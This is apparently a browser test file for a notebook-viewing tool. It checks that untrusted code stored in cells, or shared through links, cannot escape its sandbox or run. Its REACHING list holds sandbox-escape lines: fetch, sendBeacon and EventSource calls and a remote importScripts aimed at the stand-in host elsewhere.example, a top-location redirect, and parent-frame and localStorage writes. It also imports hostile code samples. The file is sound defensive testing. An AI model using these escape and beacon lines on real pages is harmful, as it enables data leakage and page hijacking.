import { cellProgram } from "../../lib/page/cells/cell_program.ts";
import { hashOf, linkTo } from "../../lib/page/reader/kept.ts";
import { assert, assertEquals } from "../assert.ts";
import { notebookText } from "../tools/book/chapters/made_chapter.ts";
import { HOSTILE_CODE } from "../tools/book/hostile/hostile_code.ts";
import {
  FIGURES,
  PICTURES,
  PIECES,
  PROSE,
} from "../tools/book/hostile/hostile_notebook.ts";
import { browserTest } from "./chromium.ts";
import { type OpenPage, openPage, until } from "./open_page.ts";
import { servedBook } from "./served_book.ts";

/** The longest text of a cell here: a link holds all of them. */
const LONGEST = 4000;

/** What a stranger puts into a page, most of it no code. */
const PAGE_TEXTS = [...PICTURES, ...PIECES, ...PROSE, ...FIGURES];

/** What makes a parser go on and on, or deep. */
const LONG_TEXTS = HOSTILE_CODE.map(([, code]) => code.slice(0, LONGEST));

const TEXTS = [...PAGE_TEXTS, ...LONG_TEXTS];

const isCode = (text: string) => "body" in cellProgram(text);

/** Code that would reach out of its frame, each in a cell of its own. */
const REACHING = [
  "parent.struck = 1",
  "top.location = 'http://elsewhere.example/'",
  "globalThis.open('http://elsewhere.example/')",
  "document.body.append('struck')",
  "localStorage.setItem('struck', '1')",
  "await fetch('http://elsewhere.example/')",
  "navigator.sendBeacon('http://elsewhere.example/', 'struck')",
  "new EventSource('http://elsewhere.example/')",
  "importScripts('http://elsewhere.example/a.js')",
  "await caches.open('struck')",
];

const ORIGINAL = "1 + 1";

/** What the page would have become if anything had come through. */
async function expectQuiet({ page, complaints }: OpenPage, url: string): Promise<void> {
  assertEquals(await page.evaluate("globalThis.struck"), undefined);
  assertEquals(await page.evaluate("localStorage.getItem('struck')"), null);
  assertEquals(page.url().split("#")[0], url);
  assertEquals(page.context().pages().length, 1);
  assertEquals(complaints, []);
}

browserTest(
  "what a stranger has written into cells runs by no storage and by no link",
  async () => {
    const all = [...TEXTS, ...REACHING];
    assert(all.length > 59);
    const text = notebookText([
      ["markdown", "# A page"],
      ...all.map(() => ["code", ORIGINAL] as const),
    ]);
    const notebooks = [{ path: "a.ipynb", text }];
    await using book = await servedBook({ notebooks, sources: [], door: "" });
    const url = `${book.address}a.html`;
    const changes = Object.fromEntries(
      all.map((text, i) => [i + 1, [hashOf(ORIGINAL), text] as const]),
    );
    await using kept = await openPage(url);
    const stored = JSON.stringify(JSON.stringify({ a: changes }));
    await kept.page.evaluate(`localStorage.setItem("headlight-cells", ${stored})`);
    await kept.page.reload();
    await using linked = await openPage(url + linkTo(changes));
    for (const open of [kept, linked]) {
      const { page } = open;
      const changed = `document.querySelectorAll("[data-changed]").length`;
      await until(page, `${changed} === ${all.length}`);
      // Whatever it tries, it may try when it is touched.
      await page.evaluate(`for (const code of document.querySelectorAll("pre.code code"))
        code.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }))`);
      await page.waitForTimeout(500);
      assertEquals(await page.locator("iframe").count(), 0);
      assertEquals(await page.locator("pre.code :is(img, script, a, svg)").count(), 0);
      await expectQuiet(open, url);
    }
  },
);

browserTest(
  "what a stranger has written into a cell is refused when it runs",
  async () => {
    const text = notebookText([["markdown", "# A page"], ["code", ORIGINAL]]);
    const notebooks = [{ path: "a.ipynb", text }];
    await using book = await servedBook({ notebooks, sources: [], door: "" });
    const url = `${book.address}a.html`;
    await using open = await openPage(url);
    const { page } = open;
    const cell = page.locator("[data-cell]");
    await cell.getByRole("button", { name: /^Edit: / }).click();
    const state = `document.querySelector("[data-cell] .state").textContent`;
    const run = async (code: string): Promise<string> => {
      // To write thousands of lines as a person does takes Chromium half a minute.
      await page.evaluate(`{
        const field = document.querySelector("[data-cell] textarea");
        field.value = ${JSON.stringify(code)};
        field.dispatchEvent(new InputEvent("input", { bubbles: true }));
      }`);
      // Where a long text moves the button away under the pointer, no click would come.
      await cell.locator(".run").dispatchEvent("click");
      await until(page, `/^(✓|an error|stopped)/.test(${state})`);
      return await page.evaluate(state);
    };
    const ran: string[] = [];
    for (const code of [...LONG_TEXTS, ...PAGE_TEXTS.filter(isCode)]) {
      if (await run(code) !== "an error") ran.push(code);
    }
    // What is code at all is harmless.
    assert(ran.length < 6 && ran.every((code) => !/struck|elsewhere/.test(code)));
    const noCode = PAGE_TEXTS.filter((text) => !isCode(text));
    assert(noCode.length > 30);
    for (const code of [...REACHING, ...noCode.slice(0, 5)]) {
      assertEquals([code, await run(code)], [code, "an error"]);
    }
    await page.waitForTimeout(500);
    assert(/^✓/.test(await run(ORIGINAL)));
    await expectQuiet(open, url);
  },
);
